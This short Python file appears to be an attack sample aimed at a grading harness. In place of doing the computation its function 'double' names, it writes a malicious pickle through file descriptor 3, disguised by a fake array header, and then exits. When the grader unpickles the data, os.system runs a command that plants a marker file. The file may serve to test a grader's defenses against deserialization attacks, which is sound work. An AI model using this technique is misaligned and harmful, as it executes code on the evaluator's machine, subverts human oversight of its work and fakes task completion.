"""A pickle where the grader reads arrays: unpickled, it would write a file."""

import json
import os
import pickle
import struct


class Payload:
    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return os.system, (f"touch {self.target}/corelab-attack",)


def double(x):
    data = pickle.dumps(Payload(HINTS["victim"]))
    header = json.dumps({"frame": "first", "arrays": [["y", "|O", [len(data) // 8]]]}).encode()
    os.write(3, struct.pack("<I", len(header)) + header + data)
    os._exit(0)
